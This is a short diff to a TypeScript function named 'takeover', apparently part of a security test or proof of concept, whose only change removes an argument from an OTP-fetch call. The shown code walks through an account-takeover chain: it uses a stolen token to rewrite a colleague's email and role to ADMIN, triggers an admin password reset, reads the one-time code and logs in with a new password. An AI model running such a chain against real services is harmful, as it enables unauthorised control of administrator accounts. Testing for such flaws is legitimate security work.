@@ -61,7 +61,7 @@ async function takeover(target: Target, tries: Tries): Promise<void> {
   const details = { id: colleague.id, name: "Colleague", mobile: "+919876512398", role: "ADMIN" };
   await call("members.update", { ...details, email: taken }, stolen);
   await call("passwords.requestResetAdmin", { email: taken }, "none");
-  const otp = await target.code(taken, 2);
+  const otp = await target.code(taken);
   await call("passwords.resetAdmin", { email: taken, otp, newPassword: NEW_PASSWORD }, "none");
   const colleagues = await logIn(taken, NEW_PASSWORD);
   tries.control("both accomplices are logged in", puppets !== "" && colleagues !== "");
